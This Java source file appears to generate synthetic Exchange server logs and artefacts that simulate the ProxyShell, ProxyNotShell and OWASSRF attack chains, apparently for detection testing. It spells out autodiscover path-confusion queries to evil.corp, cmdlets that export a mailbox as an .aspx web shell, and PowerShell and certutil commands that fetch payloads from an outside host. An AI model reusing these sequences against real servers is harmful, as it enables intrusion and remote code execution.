package org.wachtpost.inspect.generator;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Random;

/** The attacks that came after on the same logs: ProxyShell, ProxyNotShell, OWASSRF. */
final class LaterChains {
  static final String EXPORTED_SHELL = "C/inetpub/wwwroot/aspnet_client/qwzxkjva.aspx";
  private static final String PATH = "/autodiscover/autodiscover.json";
  private static final String MAIL = "Email=autodiscover/autodiscover.json%3F@evil.corp";
  private final Site site;
  private final Planting planting;
  private final Attacker attacker;
  private final Aftermath after;

  LaterChains(Site site, Planting planting, Attacker attacker) {
    this.site = site;
    this.planting = planting;
    this.attacker = attacker;
    this.after = new Aftermath(site, planting);
  }

  /** Path confusion to the mailbox, to PowerShell as SYSTEM, and a mailbox exported as a page. */
  void proxyShell(Instant start) {
    confused(start, "@evil.corp/mapi/nspi/?&" + MAIL, "", 200);
    confused(start.plusSeconds(2), "@evil.corp/autodiscover/autodiscover.xml?&" + MAIL, "", 200);
    confused(start.plusSeconds(3), "@evil.corp/mapi/emsmdb/?&" + MAIL, "", 200);
    confused(start.plusSeconds(5), "@evil.corp/EWS/exchange.asmx?&" + MAIL, "", 200);
    for (int i = 0; i < 6; i++) {
      confused(
          start.plusSeconds(8 + i),
          "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTA" + "&" + MAIL,
          "",
          200);
    }
    String mailbox = site.people.getFirst().smtp();
    after.cmdlet(
        start.plusSeconds(15),
        "New-ManagementRoleAssignment",
        "-Role \"Mailbox Import Export\" -User \"" + mailbox + "\"");
    after.cmdlet(
        start.plusSeconds(18),
        "New-MailboxExportRequest",
        "-Mailbox \""
            + mailbox
            + "\" -IncludeFolders \"#Drafts#\" -ContentFilter"
            + " \"(Subject -eq 'qwzxkjva')\" -ExcludeDumpster \"True\" -FilePath"
            + " \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\qwzxkjva.aspx\"");
    after.cmdlet(
        start.plusSeconds(48),
        "Remove-MailboxExportRequest",
        "-Identity \"" + mailbox + "\\MailboxExport\" -Confirm \"False\"");
    planting.files.put(EXPORTED_SHELL, exportedMailbox());
  }

  /** The same confusion by somebody who has a password; the command runs through PowerShell. */
  void proxyNotShell(Instant start) {
    String user = site.netbios + "\\" + site.people.get(3).name();
    for (int i = 0; i < 5; i++) {
      confused(start.plusSeconds(4L * i), "@evil.corp/powershell/?&" + MAIL, user, 200);
    }
    run(start.plusSeconds(21));
  }

  /** Through Outlook on the web: a mailbox in the path, and PowerShell behind it. */
  void owaSsrf(Instant start) {
    String user = site.netbios + "\\" + site.people.get(3).name();
    String stem = "/owa/" + site.people.get(3).smtp() + "/powershell";
    for (int i = 0; i < 4; i++) {
      attacker.query(
          Stream.OWA,
          start.plusSeconds(3L * i),
          "POST",
          stem,
          "",
          user,
          Attacker.SCRIPT_AGENT,
          200);
    }
    run(start.plusSeconds(14));
  }

  private void run(Instant time) {
    String worker = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
    after.run(
        time,
        worker,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -c \"Invoke-WebRequest http://203.0.113.50/m -OutFile"
            + " C:\\ProgramData\\m.dll\"");
    after.run(
        time.plusSeconds(9),
        worker,
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.50/180000000.dll C:\\PerfLogs\\d.dll");
  }

  private void confused(Instant time, String query, String user, int status) {
    attacker.query(
        Stream.AUTODISCOVER, time, "POST", PATH, query, user, Attacker.SCRIPT_AGENT, status);
  }

  /** A mailbox file (PST) in which the page stands as it was sent: the server runs it all. */
  private static byte[] exportedMailbox() {
    byte[] filler = new byte[3_000];
    new Random(34_473).nextBytes(filler);
    for (int i = 0; i < filler.length; i++) {
      filler[i] = filler[i] == '<' ? 0 : filler[i];
    }
    ByteArrayOutputStream file = new ByteArrayOutputStream();
    file.writeBytes("!BDN".getBytes(StandardCharsets.US_ASCII));
    file.writeBytes(filler);
    file.writeBytes(ProxyLogon.script("exec_code").getBytes(StandardCharsets.US_ASCII));
    file.writeBytes(filler);
    return file.toByteArray();
  }
}
